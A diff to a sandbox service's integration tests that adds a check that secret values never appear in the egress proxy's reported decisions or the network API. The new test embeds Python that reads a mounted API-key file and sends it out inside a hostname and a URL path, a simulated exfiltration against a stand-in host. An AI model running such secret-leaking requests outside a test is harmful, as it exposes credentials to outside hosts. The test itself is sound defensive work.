@@ -16,6 +16,7 @@ import { policyDirOf, readBundleHash } from '../../src/policy/bundle-files.ts';
 import { ServiceError } from '../../src/sandbox/errors.ts';
 import { errorStatus } from '../../src/api/error-codes.ts';
 import type { ExecSession } from '../../src/sandbox/service-types.ts';
+import type { EgressDecision } from '../../src/network/proxy/index.ts';
 import { EnvSecretProvider, FileSecretStore, redactionMarker, SecretRegistry } from '../../src/secrets/index.ts';
 import { executeOnce } from '../../src/sandbox/execute.ts';
 import { NetworkManager } from '../../src/network/manager.ts';
@@ -153,7 +154,8 @@ for (const runtime of ['namespace', 'gvisor'] as const) {
   describe(`${runtime}: T18 secrets`, { skip: reason(runtime) }, () => {
     const storeDir = join(config.stateDir, 'secrets');
     const registry = new SecretRegistry([new FileSecretStore(storeDir), new EnvSecretProvider({ gh_token: 'AIRLOCK_T18_TOKEN' }, { AIRLOCK_T18_TOKEN: ENV_VALUE })]);
-    const service = new SandboxService({ config, policyBundleHash, secrets: registry });
+    const decisions: EgressDecision[] = [];
+    const service = new SandboxService({ config, policyBundleHash, secrets: registry, observer: { egressDecision: (d) => decisions.push(d) } });
     before(async () => {
       await new FileSecretStore(storeDir).set('openai_key', Buffer.from(VALUE));
       await service.start();
@@ -247,6 +249,23 @@ for (const runtime of ['namespace', 'gvisor'] as const) {
       assert.deepEqual(hostSecretMounts(), [], 'no secrets mount is left on the host');
       assert.ok(!existsSync(join(config.runDir, 'gvisor', id)), 'the bundle is gone');
       assert.deepEqual(hostFilesHoldingValue(), []);
+    });
+
+    test('what the egress proxy reports (host names, paths) is redacted: logs, metrics and the network API', async () => {
+      const info = await service.create({ runtime, limits: {}, metadata: {}, env: {}, mounts: [], secrets: ['openai_key'], network: { mode: 'restricted', allowedHosts: ['example.com'], services: [] } });
+      const id = info.sandbox_id;
+      try {
+        const code = "import urllib.request\nv = open('/run/secrets/openai_key').read()\nfor url in ('http://%s.invalid/' % v, 'http://example.com/%s?q=1' % v):\n    try:\n        urllib.request.urlopen(url, timeout=5)\n    except Exception as e:\n        print(type(e).__name__)\n";
+        const out = await collect(await service.exec(id, { code, language: 'python', env: {}, stdin: false, timeoutMs: 30_000 }));
+        assert.equal(out.result.exit_code, 0, out.err);
+        const mine = decisions.filter((d) => d.sandboxId === id);
+        assert.ok(mine.length >= 1, `the proxy reported ${mine.length} decisions`);
+        assert.ok(mine.some((d) => d.host === `${MARK}.invalid` && !d.allowed), JSON.stringify(mine));
+        assertNoValue(JSON.stringify(mine), 'the egress decisions observed');
+        assertNoValue(JSON.stringify(service.network(id)), 'the network API');
+      } finally {
+        await service.kill(id);
+      }
     });
 
     test('an unknown secret is refused before anything starts, naming it (400 secret_not_found)', async () => {
